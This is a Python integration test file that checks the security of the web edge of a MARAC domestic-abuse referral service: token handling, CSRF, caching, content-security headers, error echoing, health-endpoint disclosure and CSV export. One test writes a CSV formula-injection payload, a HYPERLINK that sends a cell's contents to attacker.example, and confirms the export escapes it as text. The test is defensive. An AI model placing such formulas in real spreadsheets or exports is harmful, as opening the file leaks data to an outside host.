"""What an attacker and a fuzzer found at the HTTP edge: no 500s, no cached personal data,
no CDN script on the cookie's origin, no CSRF through the API."""

from __future__ import annotations

import re

import pytest

from tests.integration.marac.referral_data import referral

pytestmark = pytest.mark.integration


def test_a_non_ascii_bearer_token_is_401_not_500(api):
    response = api.client.get(
        "/api/marac/meetings", headers={"Authorization": b"Bearer tdm1.\xc3\xa9\xff.\xff"}
    )
    assert response.status_code == 401
    response = api.client.get(
        "/api/marac/meetings", headers={"Authorization": "Bearer tdm1.e30.AAAA"}
    )  # a well-formed token with a bad signature
    assert response.status_code == 401


def test_a_non_ascii_session_cookie_is_refused_not_a_500(api):
    cookie = {"Cookie": b"tandem_session=tdm1.\xc3\xa9\xff.x"}  # raw bytes, as a client may
    assert api.client.get("/api/marac/meetings", headers=cookie).status_code == 401
    page = api.client.get("/marac/meetings", headers=cookie, follow_redirects=False)
    assert page.status_code in (302, 303, 307)


def test_the_session_cookie_alone_cannot_change_anything_through_the_api(api):
    token = api.platform.tokens.issue("idva@idva-oxon", "idva-oxon", "referrer")
    api.client.cookies.set("tandem_session", token)
    try:
        assert api.client.get("/api/marac/meetings").status_code == 200  # reading is fine
        response = api.client.post("/api/marac/referrals", json=referral())
        assert response.status_code == 403
        assert "Bearer" in response.json()["detail"]
    finally:
        api.client.cookies.clear()


def test_api_answers_are_never_cached_and_api_html_runs_no_script(api):
    coordinator = api.headers("marac-coord", "coordinator")
    meeting = api.client.post(
        "/api/marac/meetings",
        json={"marac_area": "oxford", "meeting_date": "2099-01-08"},
        headers=coordinator,
    )
    assert meeting.status_code == 201, meeting.text
    assert meeting.headers["Cache-Control"] == "no-store"
    meeting_id = meeting.json()["meeting_id"]
    printable = api.client.get(
        f"/api/marac/meetings/{meeting_id}/agenda?format=html", headers=coordinator
    )
    assert printable.status_code == 200
    assert printable.headers["Cache-Control"] == "no-store"
    assert "script-src" not in printable.headers["Content-Security-Policy"]
    assert "default-src 'none'" in printable.headers["Content-Security-Policy"]
    assert printable.headers["X-Frame-Options"] == "DENY"


def test_the_api_reference_loads_its_assets_from_here(api):
    for path, asset in (
        ("/docs", "/docs-assets/swagger/swagger-ui-bundle.js"),
        ("/redoc", "/docs-assets/redoc/redoc.standalone.js"),
    ):
        page = api.client.get(path)
        assert page.status_code == 200
        assert asset in page.text
        assert "cdn" not in page.text.lower()
        assert api.client.get(asset).status_code == 200


def draft_agenda_csv(api, body: dict) -> list[list[str]]:
    """The rows of a new meeting's draft agenda CSV after an IDVA refers ``body``."""
    import csv
    import io

    coordinator = api.headers("marac-coord", "coordinator")
    meeting = api.client.post(
        "/api/marac/meetings",
        json={"marac_area": "oxford", "meeting_date": "2099-01-08"},
        headers=coordinator,
    ).json()
    referred = api.client.post(
        "/api/marac/referrals", json=body, headers=api.headers("idva-oxon", "referrer")
    )
    assert referred.status_code == 201, referred.text
    exported = api.client.get(
        f"/api/marac/meetings/{meeting['meeting_id']}/agenda?format=csv&draft=true",
        headers=coordinator,
    )
    assert exported.status_code == 200
    return list(csv.reader(io.StringIO(exported.text)))


def test_a_victim_named_like_a_formula_is_text_in_the_agenda_csv(api):
    from services.kernel.spreadsheet import FORMULA_START

    name = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'
    rows = draft_agenda_csv(api, referral(victim=name, perpetrator="@SUM(1+1)"))
    cells = [cell for row in rows for cell in row]
    assert "'" + name in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]


def test_a_422_names_the_field_but_never_echoes_what_was_sent(api):
    body = referral(victim="Ophelia Secretname")
    body["victim"]["date_of_birth"] = "not a date"
    response = api.client.post(
        "/api/marac/referrals", json=body, headers=api.headers("idva-oxon", "referrer")
    )
    assert response.status_code == 422
    assert "Secretname" not in response.text
    assert "not a date" not in response.text
    (error,) = response.json()["detail"]
    assert error["loc"] == ["body", "victim", "date_of_birth"]


def test_health_tells_anyone_whether_tandem_is_up_and_only_callers_how_it_is_built(api):
    anyone = api.client.get("/health")
    assert set(anyone.json()) == {"status", "publishing", "services", "detail"}
    for secret in (api.platform.bootstrap, api.platform.settings.topic_prefix, "lag_by_topic"):
        assert secret not in anyone.text
    assert set(anyone.json()["services"]) == set(api.platform.projections)

    caller = api.client.get("/health", headers=api.headers("marac-coord", "coordinator"))
    assert caller.json()["broker"]["bootstrap"] == api.platform.bootstrap
    assert api.client.get("/health", headers={"Authorization": "Bearer nope"}).status_code == 401


def test_the_footer_links_a_readable_status_page(api):
    page = api.client.get("/status")
    assert page.status_code in (200, 503)  # no projector threads run under this harness
    assert "Service status" in page.text
    assert "MARAC meetings, agendas and actions" in page.text
    assert api.platform.bootstrap not in page.text
    assert 'href="/status"' in api.client.get("/sign-in").text


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_every_request_body_has_an_example_that_its_own_model_accepts(api):
    """The OpenAPI is the reference: each body shows an example, and the example is valid."""
    from pydantic import BaseModel

    def subclasses(cls):
        for sub in cls.__subclasses__():
            yield sub
            yield from subclasses(sub)

    models = {m.__name__: m for m in subclasses(BaseModel) if m.__module__.startswith("services.")}
    spec = api.client.get("/openapi.json").json()
    components = spec["components"]["schemas"]
    checked = 0
    for path, operations in spec["paths"].items():
        for method, operation in operations.items():
            body = operation.get("requestBody")
            if not body:
                continue
            name = body["content"]["application/json"]["schema"]["$ref"].rsplit("/", 1)[1]
            examples = components[name].get("examples")
            assert examples, f"{method.upper()} {path}: the request body {name} has no example"
            for example in examples:
                models[name].model_validate(example)
            checked += 1
    assert checked >= 18


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_the_agenda_csv_is_in_words_a_chair_reads(api):
    """It had field codes for headings and values like visible_high_risk and True."""
    _marking, headings, row = draft_agenda_csv(api, referral(yes=16))[:3]
    case = dict(zip(headings, row, strict=True))
    assert headings[:3] == ["Position", "Case", "Late"]
    assert case["Criteria met"] == "Visible high risk"
    assert (case["Late"], case["Repeat"], case["Rolls over to next meeting"]) == ("No",) * 3
    assert case["Risk level"] == "High"
    assert "True" not in row and "False" not in row
    # the case by its reference, agencies by the agreement's names, never codes
    assert re.fullmatch(r"OX-\d{4}-\d{4}", case["Case"])
    assert case["Referring agency"] == "Oxfordshire IDVA service"
    assert "idva-oxon" not in row
